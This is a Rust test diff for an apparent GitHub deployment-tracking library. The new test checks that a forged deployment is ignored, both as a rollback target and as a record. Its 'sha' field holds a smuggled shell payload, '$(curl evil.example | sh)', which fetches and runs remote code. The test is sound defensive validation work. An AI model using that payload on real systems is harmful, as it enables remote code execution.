@@ -369,3 +369,45 @@ fn the_app_commit_shows_the_deploy() {
             .unwrap();
     }
 }
+
+#[test]
+fn a_record_shaped_deployment_whose_sha_is_no_commit_is_no_target() {
+    let fake = fake();
+    let gh = client(&fake);
+    deploy(&gh, "staging", &payload(A), DeploymentState::Success);
+    let rt = rt();
+    let forged =
+        serde_json::json!({"repository": APP, "sha": "$(curl evil.example | sh)", "images": {}});
+    let d = rt
+        .block_on(gh.create_deployment(
+            &repo(),
+            &relay_github::NewDeployment {
+                git_ref: REF,
+                task: TASK,
+                environment: "staging",
+                payload: &forged,
+                description: "",
+                required_contexts: &[],
+                production_environment: None,
+                transient_environment: false,
+            },
+        ))
+        .unwrap();
+    rt.block_on(gh.create_deployment_status(
+        &repo(),
+        d.id,
+        &relay_github::NewDeploymentStatus {
+            state: DeploymentState::Success,
+            description: "",
+            environment_url: None,
+            log_url: None,
+            auto_inactive: None,
+        },
+    ))
+    .unwrap();
+    assert_eq!(sha_of(previous(&gh, "staging", C)).as_deref(), Some(A));
+    let all = rt
+        .block_on(relay_deployments::records(&gh, &repo(), None, 10))
+        .unwrap();
+    assert_eq!(all.len(), 1, "not a record at all");
+}
